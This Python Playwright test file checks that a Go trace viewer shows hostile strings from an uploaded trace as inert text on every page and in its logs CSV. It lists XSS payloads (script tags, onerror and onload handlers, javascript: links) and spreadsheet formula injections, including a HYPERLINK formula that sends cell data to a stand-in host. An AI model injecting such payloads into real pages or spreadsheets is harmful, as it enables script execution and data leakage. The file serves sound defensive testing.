"""Script payloads in every string a trace carries are shown as text, never run.

tests/data/hostile/go1.27-hostile.trace is a real Go 1.27 trace of the program
in tests/data/hostile/main.go.txt: its task, region, log category and log
message strings are payloads (``<script>``, ``<img onerror>``, ``<svg onload>``,
``javascript:`` links, Plotly's pseudo-HTML, spreadsheet formulas), one
function's symbol name is ``main.<svg/onload=window.__xss=9>`` (a linkname) and
its source file's directory is named ``<img src=x onerror=window.__xss=7>``. It
is uploaded under a payload file name too.

Every page of app/pages (each ROUTES rule of each PAGE_MODULES module: the
library, every per-trace page, one goroutine, compare, live) is opened for it;
each graph is hovered and a timeline span of the goroutine that blocked in the
payload function is clicked. Each payload would set ``window.__xss``: it stays
unset, no dialog opens (``page.on("dialog")`` fails the test), no element with
an event-handler attribute or a javascript: link exists, and the payloads are
on the pages as text. The CSV of the logs holds them literally, with the
formula ones quoted. The tour changes no row of the database (Dash callbacks
take the read token: they must not write).
"""

from __future__ import annotations

import csv
import importlib
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Dialog, Page

from app.pages import PAGE_MODULES
from ingest.store.db import make_engine
from ingest.views.tables import FORMULA_PREFIXES
from tests.support.browser import shot, wait_for_dash
from tests.support.consistency import row_counts
from tests.support.server import Served

REPO = Path(__file__).resolve().parents[3]
HOSTILE = REPO / "tests" / "data" / "hostile" / "go1.27-hostile.trace"
OTHER = REPO / "samples" / "go1.27-annotations.trace"
UPLOAD_NAME = "<img src=x onerror=window.__xss=10>.trace"
#: The strings main.go.txt writes into tasks, regions and logs.
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=2">',
    '"><svg onload=window.__xss=3>',
    '<a href="javascript:window.__xss=4">click</a>',
    "javascript:window.__xss=5",
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "<b onmouseover=window.__xss=6>bold</b> & <i>&amp;</i>",
]
FUNCTION = "main.<svg/onload=window.__xss=9>"
FILE_DIR = "<img src=x onerror=window.__xss=7>"
#: Values for the path arguments of page routes.
ROUTE_ARGS = {"goid": "1", "name": "none"}

#: Anything on the page that a payload would have made live.
LIVE_JS = """() => {
    const out = [];
    for (const el of document.querySelectorAll('*')) {
        for (const a of el.getAttributeNames()) {
            const v = el.getAttribute(a) || '';
            if (/^on/i.test(a) && v.includes('__xss')) out.push(el.tagName + ' ' + a);
            if ((a === 'href' || a === 'src' || a === 'xlink:href')
                && /^\\s*javascript:/i.test(v)) out.push(el.tagName + ' ' + a + '=' + v);
        }
        if (el.tagName === 'SCRIPT' && el.textContent.includes('__xss')) out.push('SCRIPT');
    }
    return {flag: window.__xss === undefined ? null : String(window.__xss), live: out};
}"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Served, int, int]]:
    """(server, hostile trace id, other trace id), its database read before and after."""
    base = tmp_path_factory.mktemp("rel-xss")
    named = base / UPLOAD_NAME
    shutil.copyfile(HOSTILE, named)
    with Served(base / "data", [named, OTHER]) as srv:
        listed = {t["name"]: t["id"] for t in srv.get("/api/traces").json()["traces"]}
        engine = make_engine(f"sqlite:///{base / 'data' / 'gmpscope.db'}", migrate_to_head=False)
        before = row_counts(engine)
        yield srv, listed[UPLOAD_NAME], listed[OTHER.name]
        after = row_counts(engine)
        engine.dispose()
    assert after == before, "visiting the pages changed the database"


def page_routes() -> list[tuple[str, str]]:
    """(module, rule) for every route of every page module."""
    return [(module, rule) for module in PAGE_MODULES
            for rule in importlib.import_module(f"app.pages.{module}").ROUTES]


def page_url(module: str, rule: str, tid: int, other: int) -> str:
    url = rule.replace("<int:trace_id>", str(tid))
    for arg, value in ROUTE_ARGS.items():
        url = url.replace(f"<int:{arg}>", value).replace(f"<{arg}>", value)
    assert "<" not in url, f"no value for the route {rule} of {module}: add it to ROUTE_ARGS"
    if module == "compare":
        url += f"?a={tid}&b={other}"
    return url


def watch_dialogs(page: Page) -> list[str]:
    opened: list[str] = []

    def on_dialog(d: Dialog) -> None:
        opened.append(f"{d.type}: {d.message}")
        d.dismiss()

    page.on("dialog", on_dialog)
    return opened


def assert_inert(page: Page, where: str, dialogs: list[str]) -> None:
    state = page.evaluate(LIVE_JS)
    assert state == {"flag": None, "live": []}, where
    assert dialogs == [], where


def hover_graphs(page: Page) -> None:
    """Move the mouse over every plot (Plotly renders hover labels as pseudo-HTML)."""
    for plot in page.locator(".js-plotly-plot .nsewdrag").all():
        box = plot.bounding_box()
        if not box:
            continue
        for fx in (0.1, 0.3, 0.5, 0.7, 0.9):
            page.mouse.move(box["x"] + box["width"] * fx, box["y"] + box["height"] * 0.5)
            page.wait_for_timeout(30)


@pytest.mark.parametrize(("module", "rule"), page_routes(), ids=lambda v: str(v))
def test_page_shows_payloads_as_text(page: Page, hostile: tuple[Served, int, int],
                                     module: str, rule: str, page_errors: list[str]) -> None:
    srv, tid, other = hostile
    url = page_url(module, rule, tid, other)
    dialogs = watch_dialogs(page)
    page.goto(srv.url + url)
    wait_for_dash(page, "#page-content > *")
    hover_graphs(page)
    shot(page, f"xss-{module}")
    assert_inert(page, url, dialogs)
    text = page.locator("body").inner_text()
    if module == "library":
        assert UPLOAD_NAME in text
    if module == "annotations":
        shown = [p for p in PAYLOADS if p.strip() in text]
        assert shown == [p for p in PAYLOADS], "every payload shown as text"
    if module == "goroutine":
        assert FUNCTION in text or FILE_DIR in text, "the stack's payload names shown"
    if module == "live":
        page_errors.clear()  # /live/none: no such session (an error box, on purpose)


def test_timeline_span_with_payload_stack(page: Page, hostile: tuple[Served, int, int]) -> None:
    """Step through goroutine 1's spans (keys on the canvas) until the details show the
    payload function's stack; hover the lanes on the way (the tooltip is text)."""
    srv, tid, _ = hostile
    dialogs = watch_dialogs(page)
    page.goto(f"{srv.url}/traces/{tid}/timeline?mode=g&g=1")
    wait_for_dash(page, "#timeline-canvas")
    page.wait_for_function("() => window.gmpscopeTimeline.getView() !== null")
    page.evaluate("() => window.gmpscopeTimeline.goto(window.gmpscopeTimeline.getView().firstTs,"
                  " window.gmpscopeTimeline.getView().lastTs)")
    canvas = page.locator("#timeline-canvas")
    canvas.focus()
    found = ""
    for i in range(40):
        page.keyboard.press("ArrowRight")  # the next span on goroutine 1's lane
        page.wait_for_function("() => !document.querySelector('#timeline-details')"
                               ".hasAttribute('aria-busy')")
        box = canvas.bounding_box()
        if box:
            page.mouse.move(box["x"] + box["width"] * (0.3 + i % 5 / 10), box["y"] + 120)
        assert_inert(page, f"timeline span {i}", dialogs)
        details = page.locator("#timeline-details").inner_text()
        if FUNCTION in details:
            found = details
            break
    shot(page, "xss-timeline-span")
    assert FUNCTION in found and FILE_DIR in found


def test_logs_csv_is_literal_and_formula_safe(hostile: tuple[Served, int, int]) -> None:
    srv, tid, _ = hostile
    r = srv.get(f"/api/traces/{tid}/tables/logs.csv")
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8"))))
    cells = {v for row in rows for v in row.values()}
    for p in PAYLOADS:
        want = "'" + p if p.startswith(FORMULA_PREFIXES) else p
        assert want in cells, p
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], "no cell reads as a formula"
